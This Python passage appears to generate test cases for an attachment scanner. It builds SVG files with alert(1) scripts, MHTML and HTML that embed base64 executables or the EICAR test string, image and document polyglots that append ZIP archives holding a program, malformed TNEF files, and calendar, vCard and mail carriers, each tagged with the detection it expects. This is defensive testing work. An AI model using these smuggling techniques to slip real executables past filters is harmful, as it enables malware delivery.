    yield Variant('SVG with an event', ('a.svg', b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
                  words=['mark:script'])
    yield Variant('SVG that smuggles', ('a.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[' +
                                        page[page.index(b'var'):page.index(b'</script>')] + b']]></script></svg>'),
                  words=['mark:script', 'mark:builds-file'])
    yield Variant('SVG as a picture', ('a.png', b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
                  words=['mark:script'])
    for eol in (b'\r\n', b'\n'):
        mhtml = (b'From: <saved>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="m"\n\n--m\nContent-Type: '
                 b'text/html\n\n<html></html>\n--m\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: '
                 b'base64\nContent-Location: file:///a\n\n').replace(b'\n', eol)
        yield Variant(f'MHTML, {eol!r}', ('a.mht', mhtml + b64(EXE) + b'--m--\n'), words=PROGRAM)
        yield Variant(f'MHTML with EICAR, {eol!r}', ('a.mht', mhtml + b64(EICAR) + b'--m--\n'), words=INFECTED)
        yield Variant(f'MHTML called doc, {eol!r}', ('a.doc', mhtml + b64(EXE) + b'--m--\n'), words=PROGRAM)
    yield Variant('a program in base64 in HTML', ('a.html', b'<html><script>var a="' + coded + b'";</script></html>'),
                  words=words)
    yield Variant('EICAR in base64 in HTML',
                  ('a.html', b'<html><script>var a="' + base64.b64encode(EICAR) + b'";</script></html>'), words=INFECTED)
    yield Variant('EICAR in a data URL',
                  ('a.html', b'<html><a href="data:;base64,' + base64.b64encode(EICAR) + b'">x</a></html>'), words=INFECTED)


@file('ATT-12')
def polyglots():
    jar = zips.simple((b'META-INF/MANIFEST.MF', b'Manifest-Version: 1.0\r\nMain-Class: A\r\n\r\n'),
                      (b'A.class', b'\xca\xfe\xba\xbe\0\0\0\x34'))
    evil = zips.simple((b'report.dat', EXE))
    yield Variant('GIF and JAR', ('a.gif', payloads.GIF + jar), words=['type:jar', 'type:zip', 'type:class'])
    yield Variant('PNG and ZIP', ('a.png', payloads.png(evil)), words=PROGRAM)
    yield Variant('JPEG and ZIP', ('a.jpg', payloads.JPEG + evil), words=PROGRAM)
    yield Variant('PDF and ZIP', ('a.pdf', payloads.pdf() + evil), words=PROGRAM)
    yield Variant('ZIP around a PDF',
                  ('a.pdf', b'%PDF-1.4\n' +
                   archive([Member(b'a.pdf', payloads.pdf(), 0), Member(b'report.dat', EXE)], base=9)), words=PROGRAM)
    yield Variant('JPEG and HTA', ('a.jpg', payloads.JPEG + payloads.HTA), words=['type:hta'])
    yield Variant('GIF and HTA', ('a.gif', payloads.GIF + payloads.HTA), words=['type:hta'])
    yield Variant('GIF and script', ('a.gif', b'GIF89a/*' + bytes(20) + b'*/=1;' + payloads.JS), words=['type:js', 'clean'])
    yield Variant('GIF and EICAR', ('a.gif', payloads.GIF + EICAR), words=INFECTED)
    yield Variant('PNG and a program', ('a.png', payloads.png(EXE)), words=PROGRAM)
    yield Variant('a program and a ZIP', ('a.dat', EXE + zips.simple((b'a.txt', b'hello'))), words=PROGRAM)
    yield Variant('ISO and ZIP', ('a.dat', zips.iso(b'A.TXT', b'hello') + evil), words=['type:iso'])
    yield Variant('ZIP in the first 32 KB of an ISO', ('a.zip', evil + zips.iso(b'A.TXT', b'hello')[len(evil):]),
                  words=['type:iso'])
    yield Variant('PNG and RAR', ('a.png', payloads.png(zips.rar4(b'report.dat', EXE))), words=PROGRAM)
    yield Variant('PNG and 7z', ('a.png', payloads.png(zips.seven_zip(b'report.dat', EXE))), words=PROGRAM)
    yield Variant('text and ZIP', ('a.txt', b'hello\r\n' * 50 + evil), words=PROGRAM)
    yield Variant('HTML and ZIP', ('a.html', b'<html></html>\n' + evil), words=PROGRAM)
    yield Variant('MP3 and ZIP', ('a.mp3', b'ID3\3\0\0\0\0\0\x0a' + bytes(10) + evil), words=PROGRAM)
    yield Variant('docx and a program', ('a.docx', payloads.word() + EXE), words=PROGRAM)
    yield Variant('a program before a docx', ('a.docx', EXE + payloads.word()), words=PROGRAM)
    yield Variant('RTF and a ZIP', ('a.rtf', b'{\\rtf1 hello}' + evil), words=PROGRAM)
    yield Variant('TAR and ZIP', ('a.tar', zips.tar((b'a.txt', b'hello')) + evil), words=PROGRAM)


@file('ATT-13')
def tnef_files():
    for name, more in {
            'as it should be': {}, 'a wrong sum': dict(checksum=1), 'a negative length': dict(length=-1),
            'a huge length': dict(length=0x7fffffff), 'a short length': dict(length=10)
    }.items():
        yield from both(name, lambda d, more=more: build.tnef(d, **more), 'winmail.dat')
    yield from both('nested', lambda d: build.tnef(build.tnef(d), b'winmail.dat'), 'winmail.dat')
    yield from both('by another name', build.tnef, 'report.txt')
    yield from both('bytes behind', lambda d: build.tnef(b'hello') + build.tnef(d)[6:], 'winmail.dat')
    yield from both('in a ZIP', lambda d: zips.simple((b'winmail.dat', build.tnef(d))), 'a.zip')
    yield from both('cut short', lambda d: build.tnef(d)[:-2], 'winmail.dat')


@file('ATT-14')
def carriers():
    def calendar(data, how=b'ENCODING=BASE64;VALUE=BINARY'):
        coded = base64.b64encode(data)
        folded = b'\r\n '.join(coded[i:i + 70] for i in range(0, len(coded), 70))
        return b'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nATTACH;FMTTYPE=application/octet-stream;' + how + b':' + folded + b'\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'

    def card(data):
        coded = base64.b64encode(data)
        return b'BEGIN:VCARD\r\nVERSION:3.0\r\nN:A;B\r\nPHOTO;ENCODING=b;TYPE=JPEG:' + b'\r\n '.join(
            coded[i:i + 70] for i in range(0, len(coded), 70)) + b'\r\nEND:VCARD\r\n'

    message = lambda data: build.head() + build.entity(b64(data), 'Content-Type: application/octet-stream',
                                                       'Content-Transfer-Encoding: base64')
    yield from both('iCalendar', calendar, 'a.ics')
    yield from both('iCalendar, order of parameters', lambda d: calendar(d, b'VALUE=BINARY;ENCODING=BASE64'), 'a.ics')
    yield from both('iCalendar, data URL', lambda d: calendar(d, b'X=y').replace(b'X=y:', b'X=y:data:;base64,'), 'a.ics')
    yield from both('vCard', card, 'a.vcf')
    yield from both('vCard 2.1', lambda d: card(d).replace(b'ENCODING=b', b'ENCODING=BASE64').replace(b'3.0', b'2.1'), 'a.vcf')
    yield from both(
        'vCard 4',
        lambda d: card(d).replace(b'PHOTO;ENCODING=b;TYPE=JPEG:', b'PHOTO:data:image/jpeg;base64,').replace(b'3.0', b'4.0'),
        'a.vcf')
    yield from both('.eml', message, 'a.eml')
    yield from both('.eml called txt', message, 'a.txt')
    yield from both('.emlx', lambda d: b'%d\n' % len(message(d)) + message(d) + b'<?xml version="1.0"?><plist/>\n', 'a.emlx')
    yield from both(
        'mailbox', lambda d: b'From a@b Sat Jan  3 10:00:00 2026\r\n' + build.head() +
        b'\r\nhello\r\n\r\nFrom a@b Sat Jan  3 10:00:00 2026\r\n' + message(d), 'a.mbox')
    yield from both('.msg', lambda d: payloads.msg('report.dat', d), 'a.msg')
    yield from both('.msg in a ZIP', lambda d: zips.simple((b'a.msg', payloads.msg('report.dat', d))), 'a.zip')
    yield Variant('.msg with a name', ('a.msg', payloads.msg('a.exe', b'hello')), words=['ending:exe', 'type:exe'])
    yield from both('signed', lambda d: build.signed_data(message(d)), 'smime.p7m')
    yield from both('uuencoded text', lambda d: b'Hello\r\n\r\n' + build.uu(d), 'a.txt')
    yield Variant('PGP, armoured',
                  ('a.asc', b'-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA5v0\r\n=aaaa\r\n-----END PGP MESSAGE-----\r\n'),
                  words=['mark:encrypted'])
